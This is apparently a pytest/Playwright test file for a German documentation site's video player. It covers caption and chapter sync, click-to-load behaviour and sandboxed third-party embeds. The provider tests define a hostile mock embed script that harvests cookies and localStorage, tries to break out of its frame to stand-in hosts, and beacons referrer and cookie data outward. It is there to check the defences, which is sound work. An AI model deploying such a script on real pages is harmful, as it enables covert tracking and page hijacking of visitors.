"""Films in a real browser: our own with captions, chapters and a transcript that follows; others only after a click."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import DESCRIPTION, ROOT, build, head
from playwright.sync_api import Browser, BrowserContext, Page, Request, Route
from test_browser import Listener, address, browser, fits  # noqa: F401 - fixtures
from webserver import nginx

from library import scripts, site
from library.dates import seconds
from library.films import Shelf
from library.frontmatter import read
from library.head import Film

SLUG = "in-zwei-klicks-zur-richtigen-checkliste"
FILM = f"videos/{SLUG}/"
BESIDE = ROOT / "docs" / "videos"
SOURCE = read((BESIDE / f"{SLUG}.md").read_bytes(), SLUG)
CAPTIONS = (BESIDE / f"{SLUG}.vtt").read_text(encoding="utf-8")
CHAPTERS = [(seconds(chapter["zeit"]), chapter["titel"]) for chapter in SOURCE.head["video"]["kapitel"]]
HELD = "ah-player--held"


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:  # noqa: F811
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="de-DE")
    page = context.new_page()
    page.set_default_timeout(10_000)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    yield page
    assert not errors
    context.close()


def now(page: Page) -> float:
    return page.evaluate("document.querySelector('video').currentTime")


def paused(page: Page) -> bool:
    return page.evaluate("document.querySelector('video').paused")


def play(page: Page) -> None:
    page.evaluate("document.querySelector('video').play()")
    page.wait_for_function("() => document.querySelector('video').currentTime > 0")


def in_view(page: Page, selector: str) -> bool:
    """Whether all of it is seen: inside the window and covered by neither header nor film."""
    return page.evaluate(
        """selector => {
          const { top, bottom, left, width } = document.querySelector(selector).getBoundingClientRect();
          const node = document.querySelector(selector);
          const free = (y) => node.contains(document.elementFromPoint(left + width / 2, y));
          return top >= 0 && bottom <= innerHeight && free(top + 3) && free(bottom - 3);
        }""",
        selector,
    )


# --- What belongs together


def test_captions_say_what_the_script_of_the_page_says():
    said = " ".join(re.findall(r"<v Mara>(.*)", CAPTIONS))
    assert said == " ".join(re.findall(r"^\*\*Mara:\*\* (.*)$", SOURCE.body, re.M))
    starts = [float(m) * 60 + float(s) for m, s in re.findall(r"(\d\d):(\d\d\.\d{3}) -->", CAPTIONS)]
    assert {second for second, _ in CHAPTERS} <= {int(start) for start in starts}
    assert [title for _, title in CHAPTERS] == re.findall(r"^### (.*)$", SOURCE.body, re.M)


def test_captions_can_be_read_in_their_time():
    for start, end, text in re.findall(r":(\d\d\.\d{3}) --> \d\d:(\d\d\.\d{3})\n<v Mara>(.*)", CAPTIONS):
        length = (float(end) - float(start)) % 60
        assert len(text) <= 84, "two lines of 42 characters"
        assert len(text) / length <= 20, (text, length)


def test_film_is_small():
    assert (BESIDE / f"{SLUG}.mp4").stat().st_size <= 2_000_000
    assert (BESIDE / f"{SLUG}.webp").stat().st_size <= 60_000


def test_recorder_has_a_step_for_each_sentence():
    import screencast

    steps = {title: len(steps) for title, steps in screencast.STEPS.items()}
    assert steps == {title: len(sentences) for title, sentences in screencast.script().items()}


def test_script_makes_room_for_what_is_said_in_the_film():
    text = scripts.filmed(SOURCE.body)
    assert "**Mara:**" not in text and "*Im Bild:" not in text
    assert "## Transkript {: #drehbuch-und-transkript }" in text, "old links keep their target"
    assert text.index("Darum geht es") < text.index(scripts.SLOT) < text.index("Zum Nachschlagen")
    assert scripts.filmed("## Darum geht es\n\nText.\n").endswith(f"\n\n## Transkript\n\n{scripts.SLOT}\n")


def test_scenes_stand_where_the_script_has_them():
    body = (
        "## Drehbuch und Transkript\n\n### A\n\n*Im Bild: **Eins**.*\n\n**Mara:** Hallo.\n\n*Im Bild: [zwei](a.md).*\n"
    )
    assert scripts.scenes(body) == {"A": [scripts.Scene(0, "Eins."), scripts.Scene(1, "zwei.")]}
    assert scripts.scenes("Text") == {}


# --- The page


def test_nothing_is_loaded_before_the_click(page, address):  # noqa: F811
    heard = Listener(page, address)
    page.goto(address + FILM)
    page.wait_for_timeout(500)
    assert not [url for url in heard.requests if url.endswith((".mp4", ".vtt"))]
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0
    play(page)
    assert {url.rpartition(".")[2] for url in heard.requests} >= {"mp4", "vtt", "webp"}
    assert heard.foreign() == set()
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0


def test_film_is_as_long_as_the_page_says(page, address):  # noqa: F811
    page.goto(address + FILM)
    play(page)
    length = page.evaluate("document.querySelector('video').duration")
    assert length == pytest.approx(int(re.sub(r"\D", "", SOURCE.head["video"]["dauer"])), abs=1)
    assert 40 <= length <= 60
    assert page.locator("video").evaluate("film => [film.videoWidth, film.videoHeight]") == [1280, 720]


def test_captions_are_shown_with_the_first_play(page, address):  # noqa: F811
    page.goto(address + FILM)
    play(page)
    page.wait_for_function("() => document.querySelector('video').textTracks[0].activeCues?.length")
    cue = page.evaluate("document.querySelector('video').textTracks[0].activeCues[0].text")
    assert cue == "<v Mara>Freitag, zehn vor zwölf."
    assert page.evaluate("document.querySelector('video').textTracks[0].mode") == "showing"
    page.evaluate(
        "document.querySelector('video').pause(); document.querySelector('video').textTracks[0].mode = 'hidden'"
    )
    page.evaluate("document.querySelector('video').play()")
    assert page.evaluate("document.querySelector('video').textTracks[0].mode") == "hidden", "a reader's choice stays"


@pytest.mark.parametrize("place", range(len(CHAPTERS)))
def test_chapters_lead_into_the_film(page, address, place):  # noqa: F811
    page.goto(address + FILM)
    second, title = CHAPTERS[place]
    page.locator(".ah-chapters a").nth(place).click()
    page.wait_for_function("second => document.querySelector('video').currentTime > second", arg=second)
    assert now(page) == pytest.approx(second, abs=2)
    page.wait_for_function("() => document.querySelector('.ah-chapters [aria-current]')")
    assert page.locator(".ah-chapters [aria-current] span").inner_text() == title
    assert page.locator(".ah-talk h3").nth(place).inner_text().endswith(title)
    assert HELD not in page.locator(".ah-player").get_attribute("class"), "the film is in view: nothing moves"


@pytest.mark.parametrize(
    "viewport", [(1280, 800), (375, 700), (667, 375)], ids=["laptop", "phone", "phone on its side"]
)
@pytest.mark.parametrize(("part", "second"), [("#t=0:29", 29), ("?t=29s", 29), ("#t=30.5", 30.5), ("#t=0:00:30", 30)])
def test_address_opens_at_the_second_with_its_paragraph_in_view(page, address, part, second, viewport):  # noqa: F811
    page.set_viewport_size({"width": viewport[0], "height": viewport[1]})
    heard = Listener(page, address)
    page.goto(address + FILM + part)
    page.wait_for_function("() => document.querySelector('.ah-say[aria-current]')")
    assert now(page) == pytest.approx(second, abs=0.1)
    assert "Drei Minuten" in page.locator(".ah-say[aria-current]").inner_text()
    page.wait_for_function(
        "() => scrollY > 300 && (window.last === scrollY || void (window.last = scrollY))", polling=300
    )
    assert in_view(page, ".ah-say[aria-current] .ah-say__who")
    assert in_view(page, "video"), "the film is held at the top"
    assert not [url for url in heard.requests if url.endswith((".mp4", ".vtt"))], "and still waits for the click"


def test_click_beside_a_paragraph_plays_it_and_holds_the_film(page, address):  # noqa: F811
    page.goto(address + FILM)
    link = page.locator(".ah-say__play").nth(4)
    link.scroll_into_view_if_needed()
    link.click()
    page.wait_for_function("() => document.querySelector('video').currentTime > 43")
    page.wait_for_function("() => document.querySelectorAll('.ah-say')[4].ariaCurrent === 'true'")
    assert page.url.endswith("#t=0:43")
    assert in_view(page, "video") and in_view(page, ".ah-say[aria-current]")


def test_text_follows_the_film_when_asked_and_yields_to_the_reader(page, address):  # noqa: F811
    page.goto(address + FILM)
    follow = page.get_by_role("button", name="Mitlesen")
    hold = page.get_by_role("button", name="Film oben halten")
    assert follow.get_attribute("aria-pressed") == "false", "who watches a film is not moved away from it"
    play(page)
    page.evaluate("document.querySelector('video').currentTime = 21")
    page.wait_for_function("() => document.querySelectorAll('.ah-say')[2].ariaCurrent === 'true'")
    assert page.evaluate("scrollY") == 0
    follow.click()
    assert (follow.get_attribute("aria-pressed"), hold.get_attribute("aria-pressed")) == ("true", "true")
    page.evaluate("document.querySelector('video').currentTime = 30")
    page.wait_for_function("() => document.querySelectorAll('.ah-say')[3].ariaCurrent === 'true'")
    page.wait_for_function(
        "() => scrollY > 300 && (window.last === scrollY || void (window.last = scrollY))", polling=300
    )
    assert in_view(page, ".ah-say[aria-current]") and in_view(page, "video")
    page.mouse.wheel(0, 600)
    page.wait_for_function("() => document.querySelector('[data-ah-do=mitlesen]').ariaPressed === 'false'")
    assert in_view(page, "video"), "the film stays until the reader lets it go"
    hold.click()
    assert hold.get_attribute("aria-pressed") == "false"
    assert not in_view(page, "video")


def test_keys(page, address):  # noqa: F811
    page.goto(address + FILM + "#t=0:12")
    film = page.locator("video")
    film.focus()
    page.keyboard.press("ArrowRight")
    assert now(page) == pytest.approx(14, abs=0.2)
    page.keyboard.press("Alt+ArrowRight")
    assert now(page) == pytest.approx(CHAPTERS[2][0], abs=0.2)
    page.keyboard.press("Alt+ArrowLeft")
    assert now(page) == pytest.approx(CHAPTERS[1][0], abs=0.2)
    page.keyboard.press("Space")
    page.wait_for_function("() => !document.querySelector('video').paused")
    page.keyboard.press("Space")
    page.wait_for_function("() => document.querySelector('video').paused")
    page.evaluate("document.querySelector('video').muted = false")
    for _ in range(6):  # the browser's own buttons; one of them is for the sound
        page.keyboard.press("Tab")
        page.keyboard.press("Space")
        if page.evaluate("document.querySelector('video').muted"):
            break
        page.evaluate("document.querySelector('video').pause()")
    assert page.evaluate("document.querySelector('video').muted"), "Space presses the button that has the focus"
    assert paused(page)


def test_place_is_kept_only_after_the_click(page, address):  # noqa: F811
    page.goto(address + FILM + "#t=0:20")
    page.goto(address)
    assert page.evaluate("localStorage.length") == 0
    page.goto(address + FILM + "#t=0:20")
    page.get_by_role("button", name="Film oben halten").click()
    page.locator("[data-ah-do=merken]").click()
    page.goto(address)
    page.goto(address + FILM)
    assert now(page) == pytest.approx(20, abs=1)
    assert page.evaluate("scrollY") == 0, "no jump for those who only come back"


def words(page: Page) -> list[str]:
    return page.locator("main").inner_text().split()


def test_without_script_the_page_is_complete(browser, page, address):  # noqa: F811
    context = browser.new_context(java_script_enabled=False)
    bare = context.new_page()
    heard = Listener(bare, address)
    bare.goto(address + FILM)
    assert bare.locator("video[controls][preload=none][poster] track[kind=captions][srclang=de]").count() == 1
    assert bare.get_by_role("link", name=re.compile(r"Film laden \(MP4, \d,\d MB\)")).is_visible()
    assert bare.locator(".ah-chapters a").count() == len(CHAPTERS)
    assert not bare.locator(".ah-player__opts").is_visible()
    said = re.findall(r"<v Mara>(.*)", CAPTIONS)
    text = " ".join(words(bare))
    assert all(sentence in text for sentence in said)
    assert text.count("Im Bild:") == len(CHAPTERS)
    assert not [url for url in heard.requests if url.endswith((".mp4", ".vtt"))]
    page.goto(address + FILM)
    assert set(words(bare)) <= set(words(page))
    context.close()


@pytest.mark.parametrize("part", ["", "#t=0:29"], ids=["at rest", "held"])
def test_fits_a_narrow_phone(page, address, part):  # noqa: F811
    page.set_viewport_size({"width": 320, "height": 568})
    page.goto(address + FILM + part)
    assert fits(page)
    player = page.locator(".ah-player").bounding_box()
    assert player["width"] <= 320 and player["x"] >= 0
    assert part == "" or player["height"] <= 568 / 2, "room to read is left"


def test_paper_holds_the_transcript_and_no_player(page, address):  # noqa: F811
    page.goto(address + FILM + "#t=0:29")
    page.emulate_media(media="print")
    assert not page.locator(".ah-player").is_visible() and not page.locator(".ah-chapters").is_visible()
    assert page.locator(".ah-talk").is_visible()
    assert all(turn.is_visible() for turn in page.locator(".ah-say").all())


def test_structured_data_names_the_film(page, address):  # noqa: F811
    page.goto(address + FILM)
    data = json.loads(page.locator("script[type='application/ld+json']").first.inner_text())
    assert data["@type"] == "VideoObject"
    for key in ("contentUrl", "thumbnailUrl"):
        assert page.request.get(address + data[key].split("/", 3)[3]).ok, key
    assert page.request.get(address + data["caption"]["contentUrl"].split("/", 3)[3]).ok
    assert [(clip["startOffset"], clip["name"]) for clip in data["hasPart"]] == CHAPTERS
    page.goto(data["hasPart"][3]["url"].replace(data["url"], address + FILM))
    assert now(page) == CHAPTERS[3][0]


# --- Other pages of a project: drafts, films in other folders, films of a provider

PROVIDER = "https://filme.example"
EXTERN = (
    f"{{extern: {{anbieter: Filmhaus, url: '{PROVIDER}/w/7', einbettung: '{PROVIDER}/embed/7'}}, poster: bild.webp}}"
)
HOSTILE = f"""<!doctype html><title>Player</title><p>Film</p><script>
  let kept = document.cookie;
  try {{ kept += localStorage.spur ?? ""; localStorage.spur = "2"; }} catch {{}}
  document.cookie = "spur=1; SameSite=None; Secure";
  try {{ top.location = "https://boese.example/oben"; }} catch {{}}
  try {{ open("https://boese.example/fenster"); }} catch {{}}
  try {{ parent.document.title = "gekapert"; }} catch {{}}
  new Image().src = "{PROVIDER}/zaehler?woher=" + document.referrer + "&kennt=" + kept;
</script>"""
BODY = "\n## Drehbuch und Transkript\n\n**Mara:** Hallo.\n"


@pytest.fixture(scope="module")
def other(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of a small project with all other ways to show a film."""
    from conftest import SMALL, copy_project, draw

    root = copy_project(tmp_path_factory.mktemp("film") / "projekt", docs=False)
    shot = "{datei: filme/a.mp4, untertitel: a-b.vtt, audiodeskription: nicht-noetig}"
    draft = "{datei: entwurf.mp4, untertitel: entwurf.vtt, poster: bild.webp}"
    draw(
        SMALL
        + "== videos/extern.md\n" + head(id="v-01", video=EXTERN) + BODY
        + "== videos/anderswo.md\n" + head(id="v-02", title="Anderswo", video=shot) + BODY
        + "== videos/entwurf.md\n" + head(id="v-03", title="Entwurf", status="entwurf", video=draft) + BODY
        + "== videos/lesen.md\n" + head(id="v-04", title="Lesen") + BODY,
        root / "docs",
    )  # fmt: skip
    (root / "docs/filme").mkdir()
    for name, target in (("mp4", "filme/a.mp4"), ("vtt", "videos/a-b.vtt"), ("mp4", "videos/entwurf.mp4"),
                         ("vtt", "videos/entwurf.vtt"), ("webp", "videos/bild.webp")):  # fmt: skip
        shutil.copy(BESIDE / f"{SLUG}.{name}", root / "docs" / target)
    built = build(root, root.parent / "site")
    assert built.code == 0, built.output
    return built.site


@pytest.fixture(scope="module")
def elsewhere(other: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with nginx(other, tmp_path_factory.mktemp("nginx")) as address:  # noqa: F811
        yield address


class Provider:
    """A host that wants more than to show a film, and everything that others are asked for."""

    def __init__(self, context: BrowserContext, own: str) -> None:
        self.asked: list[Request] = []
        self.own = own
        context.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), self.answer)

    def answer(self, route: Route) -> None:
        self.asked.append(route.request)
        route.fulfill(body=HOSTILE, content_type="text/html")


def test_file_of_a_film_may_lie_anywhere_below_docs(other):
    text = (other / "videos/anderswo/index.html").read_text(encoding="utf-8")
    assert '<source src="../../filme/a.mp4" type="video/mp4">' in text
    assert 'src="../a-b.vtt"' in text and "poster=" not in text
    assert "Mit Untertiteln.</span>" in text
    assert (other / "filme/a.mp4").is_file()


def test_film_of_a_draft_is_not_published(other):
    assert not list(other.glob("videos/entwurf*"))
    assert (other / "videos/bild.webp").is_file(), "another page shows it"


def test_page_without_a_film_stays_a_text(other):
    text = (other / "videos/lesen/index.html").read_text(encoding="utf-8")
    assert "Dieses Video ist noch nicht gedreht." in text and "Lesefassung" in text
    assert not re.search(r"<video|<iframe|ah-player|ah-embed|player\.js|embed\.js|VideoObject", text)


def test_provider_is_asked_only_after_the_click(browser, elsewhere):  # noqa: F811
    context = browser.new_context(viewport={"width": 375, "height": 800})
    page = context.new_page()
    provider = Provider(context, elsewhere)
    page.goto(elsewhere + "videos/extern/")
    page.wait_for_timeout(300)
    assert provider.asked == [] and page.locator("iframe").count() == 0 and fits(page)
    button = page.locator(".ah-embed__open")
    told = button.inner_text()
    assert "Film von Filmhaus laden und abspielen" in told and "filme.example" in told
    assert page.locator(".ah-embed__poster").evaluate("image => image.complete && image.naturalWidth") > 0
    link = page.get_by_role("link", name="Den Film bei Filmhaus öffnen")
    assert link.get_attribute("href") == f"{PROVIDER}/w/7" and "noreferrer" in link.get_attribute("rel")

    button.focus()
    page.keyboard.press("Enter")
    frame = page.locator("iframe")
    frame.wait_for()
    for _ in range(50):
        if len(provider.asked) > 1:
            break
        page.wait_for_timeout(100)
    assert {request.url for request in provider.asked} == {f"{PROVIDER}/embed/7", f"{PROVIDER}/zaehler?woher=&kennt="}
    assert not {"referer", "cookie"} & set(provider.asked[0].headers)
    assert not any(elsewhere in str(request.headers) for request in provider.asked), "nobody learns where one reads"
    assert frame.get_attribute("src") == f"{PROVIDER}/embed/7"
    assert frame.get_attribute("referrerpolicy") == "no-referrer"
    assert set(frame.get_attribute("sandbox").split()) == {"allow-scripts", "allow-same-origin", "allow-presentation"}
    assert frame.get_attribute("title") == "Startklar (Film bei Filmhaus)"
    assert page.evaluate("document.activeElement.tagName") == "IFRAME"
    assert page.url == elsewhere + "videos/extern/" and len(context.pages) == 1, "it leads nobody away"
    assert page.title().startswith("Startklar")
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0

    before = len(provider.asked)
    page.reload()
    page.wait_for_timeout(300)
    assert len(provider.asked) == before and button.is_visible(), "the click holds for once"
    button.click()
    page.wait_for_timeout(500)
    assert provider.asked[-1].url.endswith("&kennt="), "and what the provider kept is gone (credentialless)"
    context.close()


def test_providers_film_without_script_is_a_link(browser, elsewhere):  # noqa: F811
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    provider = Provider(context, elsewhere)
    page.goto(elsewhere + "videos/extern/")
    assert not page.locator(".ah-embed__open").is_visible()
    assert page.get_by_role("link", name="Den Film bei Filmhaus öffnen").is_visible()
    assert "Hallo." in page.locator(".ah-prose").inner_text(), "its script can be read"
    assert provider.asked == []
    context.close()


def test_policy_lets_through_the_one_provider_and_nobody_else(other):
    from library.policy import policy
    from library.scan import read as pages
    from library.scan import scan

    found = scan(pages(other))
    assert found.leaks == () and found.frames == (PROVIDER,)
    assert f"; frame-src {PROVIDER}" in policy(found)
    assert "frame-src" not in policy(scan({"index.html": "<p>Text</p>"}))


def test_page_of_a_provider_is_no_video_object(other):
    text = (other / "videos/extern/index.html").read_text(encoding="utf-8")
    assert "VideoObject" not in text and "noch nicht gedreht" not in text and "Lesefassung" not in text


def test_hints_name_the_line_of_captions_that_was_left_out():
    class Captions:
        sections = ()
        problems = (type("Row", (), {"line": 7, "message": "Ein Untertitel ohne Text wurde ausgelassen."}),)

    assert len(DESCRIPTION) > 80
    shelf = Shelf({"videos/a.mp4": 999, "videos/a.vtt": 9}, lambda path, chapters: Captions())
    files = {
        "themen/strategie.md": head(title="Strategie", themen=None, minuten=None).encode(),
        "videos/x.md": head(id="v-01", video="{datei: a.mp4, untertitel: a.vtt}").encode(),
    }
    library = site.read(files, (), shelf=shelf)
    assert "docs/videos/a.vtt, Zeile 7: Ein Untertitel ohne Text wurde ausgelassen." in library.hints
    assert library.films["videos/x.md"].size == "MP4, 1 KB"


def test_authors_find_every_field_of_a_film():
    """What the model knows, the page for authors names."""
    told = (ROOT / "docs/mitschreiben/video.md").read_text(encoding="utf-8")
    for field in Film.model_fields.values():
        assert f"| `{field.alias}` |" in told, field.alias
